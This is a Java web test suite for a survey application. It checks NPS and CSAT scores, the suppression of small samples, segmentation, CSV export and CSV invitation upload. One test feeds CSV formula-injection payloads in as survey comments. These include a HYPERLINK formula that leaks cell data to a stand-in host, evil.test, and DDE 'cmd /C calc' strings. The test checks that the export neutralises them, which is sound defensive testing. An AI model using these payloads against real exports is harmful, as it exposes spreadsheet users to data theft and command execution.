package io.fokus.surveys;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import io.fokus.support.Api;
import io.fokus.support.WebTestSupport;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.JsonNode;

class ResultsWebTest extends WebTestSupport {

  @LocalServerPort
  int serverPort;

  private void answer(String token, Map<String, Object> answers) {
    answer(token, "en", answers);
  }

  private void answer(String token, String language, Map<String, Object> answers) {
    Api.Response response = api.post("/api/public/surveys/" + token + "/responses",
        Map.of("submissionId", UUID.randomUUID().toString(), "language", language, "answers", answers));
    assertThat(response.status()).as(response.toString()).isEqualTo(201);
  }

  @Test
  void scoresMatchTheDefinitionsWithIntervalsDistributionsCommentsAndSeries() {
    SignedUp tenant = signUp();
    Api manager = api.as(member(tenant, "MANAGER"));
    String id = manager.post("/api/surveys", Map.of("name", "NPS", "template", "NPS")).text("id");
    String token = manager.post("/api/surveys/" + id + "/publish", null).text("publicToken");

    Api.Response empty = manager.get("/api/surveys/" + id + "/results");
    assertThat(empty.body().path("responses").asInt()).isZero();
    assertThat(empty.body().path("scores").get(0).path("score").path("suppressed").asBoolean()).isTrue();

    // 5 promoters, 3 passives, 2 detractors: NPS 30 (see ScoringTest for the interval)
    for (int score : new int[] {10, 10, 9, 9, 9, 8, 8, 7}) {
      answer(token, Map.of("nps", score, "reason", "score " + score));
    }
    answer(token, Map.of("nps", 6, "improve", "Answer the phone faster"));
    answer(token, Map.of("nps", 3, "improve", "Cheaper, please"));

    JsonNode results = manager.get("/api/surveys/" + id + "/results").body();
    assertThat(results.path("responses").asInt()).isEqualTo(10);
    JsonNode nps = results.path("scores").get(0).path("score");
    assertThat(nps.path("value").asDouble()).isCloseTo(30.0, within(1e-9));
    assertThat(nps.path("n").asInt()).isEqualTo(10);
    assertThat(nps.path("low").asDouble()).isCloseTo(-19.05, within(0.01));
    assertThat(nps.path("high").asDouble()).isCloseTo(65.20, within(0.01));
    assertThat(nps.path("method").asString()).contains("adjusted-Wald");
    JsonNode distribution = results.path("distributions").get(0).path("counts");
    assertThat(distribution.path("9").asInt()).isEqualTo(3);
    assertThat(distribution.path("0").asInt()).isZero();

    JsonNode comments = manager.get("/api/surveys/" + id + "/comments?questionId=improve").body();
    assertThat(comments.path("total").asInt()).isEqualTo(2);
    assertThat(manager.get("/api/surveys/" + id + "/comments?contains=PHONE").body().path("items").get(0)
        .path("score").asInt()).isEqualTo(6);

    JsonNode series = manager.get("/api/surveys/" + id + "/results/series?bucket=day&tz=Europe/Berlin").body();
    assertThat(series.get(0).path("points").size()).isEqualTo(1);
    assertThat(series.get(0).path("points").get(0).path("score").path("n").asInt()).isEqualTo(10);

    JsonNode tenantNps = manager.get("/api/surveys/scores?type=NPS&touchpoint=relationship&bucket=week").body();
    assertThat(tenantNps.path("score").path("value").asDouble()).isCloseTo(30.0, within(1e-9));
    assertThat(tenantNps.path("points").size()).isEqualTo(1);
    assertThat(manager.get("/api/surveys/scores?type=NPS&touchpoint=support").body().path("score").path("n")
        .asInt()).isZero();
    assertThat(manager.get("/api/surveys/scores?type=XYZ").status()).isEqualTo(400);
    assertThat(manager.get("/api/surveys/scores").status()).isEqualTo(400);

    assertThat(manager.get("/api/surveys/" + id + "/results?from=2000-01-01&to=2000-01-31").body()
        .path("responses").asInt()).isZero();
    assertThat(manager.get("/api/surveys/" + id + "/results/series?bucket=year").status()).isEqualTo(400);
    assertThat(manager.get("/api/surveys/" + id + "/results?tz=Mars/Base").status()).isEqualTo(400);
    assertThat(manager.get("/api/surveys/" + id + "/results?from=2026-02-01&to=2026-01-01").status())
        .isEqualTo(400);
    assertThat(manager.get("/api/surveys/" + id + "/results?from=yesterday").status()).isEqualTo(400);
  }

  @Test
  void aSuppressedScoreTakesEverythingThatWouldRevealItAlong() {
    SignedUp tenant = signUp();
    Api manager = api.as(member(tenant, "MANAGER"));
    String id = manager.post("/api/surveys", Map.of("name", "NPS", "template", "NPS")).text("id");
    String token = manager.post("/api/surveys/" + id + "/publish", null).text("publicToken");
    for (int score : new int[] {10, 9, 3, 0}) {
      answer(token, Map.of("nps", score, score >= 7 ? "reason" : "improve", "score " + score));
    }

    // four answers: no score, and neither the counts per value it follows from nor the comments with their scores
    JsonNode four = manager.get("/api/surveys/" + id + "/results").body();
    JsonNode nps = four.path("scores").get(0).path("score");
    assertThat(nps.path("suppressed").asBoolean()).isTrue();
    assertThat(nps.path("n").asInt()).isEqualTo(4);
    JsonNode distribution = four.path("distributions").get(0);
    assertThat(distribution.path("suppressed").asBoolean()).isTrue();
    assertThat(distribution.path("counts").size()).isZero();
    for (JsonNode other : four.path("distributions").values()) {
      assertThat(other.path("counts").size()).as(other.toString()).isZero();
    }
    JsonNode comments = manager.get("/api/surveys/" + id + "/comments").body();
    assertThat(comments.path("total").asInt()).isZero();
    assertThat(comments.path("items").size()).isZero();
    assertThat(manager.get("/api/surveys/" + id + "/results/series?bucket=day").body().get(0).path("points").get(0)
        .path("score").path("suppressed").asBoolean()).isTrue();
    assertThat(manager.get("/api/surveys/scores?type=NPS&touchpoint=relationship").body().path("score")
        .path("suppressed").asBoolean()).isTrue();

    // six answers, one in German: everyone is shown, English alone (everyone minus the German one) is not
    answer(token, Map.of("nps", 8));
    answer(token, "de", Map.of("nps", 2, "improve", "Schneller antworten"));
    assertThat(manager.get("/api/surveys/" + id + "/results").body().path("scores").get(0).path("score")
        .path("suppressed").asBoolean()).isFalse();
    JsonNode english = manager.get("/api/surveys/" + id + "/results?language=en").body();
    assertThat(english.path("responses").asInt()).isEqualTo(5);
    assertThat(english.path("scores").get(0).path("score").path("suppressed").asBoolean()).isTrue();
    assertThat(english.path("distributions").get(0).path("counts").size()).isZero();
    assertThat(manager.get("/api/surveys/" + id + "/comments?language=en").body().path("total").asInt()).isZero();
    assertThat(manager.get("/api/surveys/scores?type=NPS&touchpoint=relationship&language=en").body()
        .path("score").path("suppressed").asBoolean()).isTrue();
  }

  @Test
  void exportedCellsNeverStartAFormula() throws Exception {
    SignedUp tenant = signUp();
    String managerToken = member(tenant, "MANAGER");
    Api manager = api.as(managerToken);
    String id = manager.post("/api/surveys", Map.of("name", "CSAT", "template", "CSAT_SUPPORT")).text("id");
    String token = manager.post("/api/surveys/" + id + "/publish", null).text("publicToken");
    answer(token, Map.of("csat", 1, "resolved", "yes",
        "comment", "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")"));
    answer(token, Map.of("csat", 2, "resolved", "yes", "comment", "@SUM(1+1)*cmd|' /C calc'!A0"));
    answer(token, Map.of("csat", 3, "resolved", "yes", "comment", "-2+3+cmd|' /C calc'!A0"));
    answer(token, Map.of("csat", 4, "resolved", "yes", "comment", "+1"));
    answer(token, Map.of("csat", 5, "resolved", "yes", "comment", "-3"));

    HttpResponse<String> csv = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
            URI.create("http://127.0.0.1:" + serverPort + "/api/surveys/" + id + "/export.csv"))
        .header("Authorization", "Bearer " + managerToken)
        .build(), HttpResponse.BodyHandlers.ofString());
    assertThat(csv.statusCode()).isEqualTo(200);
    List<String> lines = csv.body().lines().toList();
    assertThat(lines).hasSize(6);
    assertThat(lines.get(1)).endsWith(",1,yes,\"'=HYPERLINK(\"\"http://evil.test/?leak=\"\"&A1,\"\"Click\"\")\"");
    assertThat(lines.get(2)).endsWith(",2,yes,'@SUM(1+1)*cmd|' /C calc'!A0");
    assertThat(lines.get(3)).endsWith(",3,yes,'-2+3+cmd|' /C calc'!A0");
    // plain numbers stay numbers
    assertThat(lines.get(4)).endsWith(",4,yes,+1");
    assertThat(lines.get(5)).endsWith(",5,yes,-3");
  }

  @Test
  void segmentsByCustomerAttributeAndExportsRawAnswersAsCsv() throws Exception {
    SignedUp tenant = signUp();
    String managerToken = member(tenant, "MANAGER");
    Api manager = api.as(managerToken);
    String id = manager.post("/api/surveys", Map.of("name", "CSAT", "template", "CSAT_SUPPORT")).text("id");
    manager.post("/api/surveys/" + id + "/publish", null);
    JsonNode invited = manager.post("/api/surveys/" + id + "/invitations", Map.of("invitees", List.of(
        Map.of("email", "a@c.test", "attributes", Map.of("plan", "pro")),
        Map.of("email", "b@c.test", "attributes", Map.of("plan", "free"))))).body().path("invited");
    for (JsonNode invitation : invited.values()) {
      api.post("/api/public/surveys/" + invitation.path("token").asString() + "/responses", Map.of(
          "submissionId", UUID.randomUUID().toString(), "language", "en",
          "answers", Map.of("csat", 5, "resolved", "yes", "comment", "Thanks, \"great\"; quick")));
    }

    assertThat(manager.get("/api/surveys/" + id + "/results?attribute=plan&value=pro").body().path("responses")
        .asInt()).isEqualTo(1);

    HttpResponse<String> csv = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
            URI.create("http://127.0.0.1:" + serverPort + "/api/surveys/" + id + "/export.csv"))
        .header("Authorization", "Bearer " + managerToken)
        .build(), HttpResponse.BodyHandlers.ofString());
    assertThat(csv.statusCode()).isEqualTo(200);
    assertThat(csv.headers().firstValue("Content-Type").orElse("")).startsWith("text/csv");
    List<String> lines = csv.body().lines().toList();
    assertThat(lines).hasSize(3);
    assertThat(lines.get(0)).isEqualTo("response_id,submitted_at,version,language,invitation_id,attributes,csat,"
        + "resolved,comment");
    assertThat(lines.get(1)).contains(",5,yes,\"Thanks, \"\"great\"\"; quick\"");
  }

  @Test
  void csvUploadInvitesEveryRowOrNone() throws IOException, InterruptedException {
    SignedUp tenant = signUp();
    String managerToken = member(tenant, "MANAGER");
    Api manager = api.as(managerToken);
    String id = manager.post("/api/surveys", Map.of("name", "NPS", "template", "NPS")).text("id");
    manager.post("/api/surveys/" + id + "/publish", null);

    HttpResponse<String> bad = upload(managerToken, id, "email,name,language,segment\n"
        + "one@c.test,One,en,smb\nbroken,Two,en,smb\nthree@c.test,Three,xx,smb\n");
    assertThat(bad.statusCode()).isEqualTo(422);
    assertThat(bad.body()).contains("\"row\":3").contains("\"row\":4").doesNotContain("\"row\":2");
    assertThat(manager.get("/api/surveys/" + id + "/invitations").body().path("total").asInt()).isZero();

    HttpResponse<String> good = upload(managerToken, id, "email,name,language,segment,purchase_value\n"
        + "one@c.test,One,en,smb,1200\ntwo@c.test,Two,de,enterprise,90000\n");
    assertThat(good.statusCode()).isEqualTo(200);
    assertThat(manager.get("/api/surveys/" + id + "/invitations").body().path("total").asInt()).isEqualTo(2);

    HttpResponse<String> noHeader = upload(managerToken, id, "x@c.test,X\n");
    assertThat(noHeader.statusCode()).isEqualTo(400);
  }

  private HttpResponse<String> upload(String token, String surveyId, String csv)
      throws IOException, InterruptedException {
    String boundary = "fokus" + UUID.randomUUID();
    String body = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"c.csv\"\r\n"
        + "Content-Type: text/csv\r\n\r\n" + csv + "\r\n--" + boundary + "--\r\n";
    return HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + serverPort
            + "/api/surveys/" + surveyId + "/invitations/upload"))
        .header("Authorization", "Bearer " + token)
        .header("Content-Type", "multipart/form-data; boundary=" + boundary)
        .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());
  }
}
